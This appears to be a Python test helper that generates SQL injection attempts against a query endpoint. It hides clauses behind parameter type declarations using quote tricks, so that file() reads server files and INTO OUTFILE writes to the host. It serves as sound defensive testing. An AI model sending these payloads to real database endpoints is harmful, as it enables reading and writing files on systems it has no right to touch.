"""Attempts to hide a clause behind the type of a query parameter, which the engine copies as it is.

A quote that only the engine, or only the endpoint, sees there would turn what follows inside out:
text becomes clauses, and clauses text. Every attempt is made with `param_a`, `param_$a` and
`param_$a$` set.
"""

from __future__ import annotations

from collections.abc import Iterator

# What holds one quote that ends nothing, in the eyes of the engine.
_HIDDEN = (
    *("# '\n", "#! '\n", "-- '\n", "// '\n", "/* ' */"),
    *("\u2018'\u2019 = 2, ", '"\'" = 2, ', "\u201c'\u201d = 2, "),
    *("$$'$$ = 2, ", "$t$'$t$ = 2, ", "$t$ -- '$t$ = 2, ", "$$ $t$ ' $$ = 2, "),
    *("x'41\\' = 2, ", "b'01000001\\' = 2, ", "X'41\\' = 2, "),
)
_CLAUSES = (
    " INTO OUTFILE '{out}\\'y'",
    " INTO OUTFILE '{out}\\'y' FORMAT CSV",
    ", arrayMap(file, ['{file}']), '\\''",
    " SETTINGS additional_result_filter = 'file(\\'{file}\\') = 1', log_comment = '\\''",
)
_DOLLARS = (
    "SELECT {{$a:String}} INTO OUTFILE '{out}'",
    "SELECT {{$a$:String}}, $a$ INTO OUTFILE $a$ INTO OUTFILE '{out}'",
    "SELECT $$ $$ INTO OUTFILE $$ {out} $$",
    "SELECT $a$'$a$, file('{file}'), $a$'$a$",
    "SELECT $a$ -- $a$, file('{file}')",
    "SELECT $a$ /* $a$, file('{file}'), $a$ */ $a$",
    "SELECT $a AS `$a -- `, file('{file}')",
    "SELECT 1 AS `$$ '`, file('{file}') AS `' $$`",
    "SELECT 1 AS `$a$`, {{$a:String}}, file('{file}'), '$a$'",
    "SELECT {{$a:String}}, '$a:String}}, \\'$', file('{file}'), '$a:String}}, \\'$'",
    "SELECT {{$a$:String}}, `$a$`, file('{file}') FROM (SELECT 1 AS `$a$`)",
    "SELECT file($a$,{file}$a$)",
    "SELECT file(${{file}}$, $${file}$$)",
    "SELECT 1 AS $a INTO OUTFILE '{out}'",
    "SELECT 1 FORMAT CSV SETTINGS log_comment = $$' INTO OUTFILE $$ INTO OUTFILE '{out}'",
)


def hidden(file: str, out: str) -> Iterator[str]:
    """Yield every attempt."""
    for begin in _HIDDEN:
        for clause in _CLAUSES:
            tail = clause.format(file=file, out=out)
            yield f"SELECT {{a:Enum8({begin}'x' = 1)}}{tail}"
            yield f"SELECT {{a:Nullable(Enum8({begin}'x' = 1))}}{tail}"
        yield f"SELECT {{a:String {begin}}} INTO OUTFILE '{out}\\'y'"
    for attempt in _DOLLARS:
        yield attempt.format(file=file, out=out)
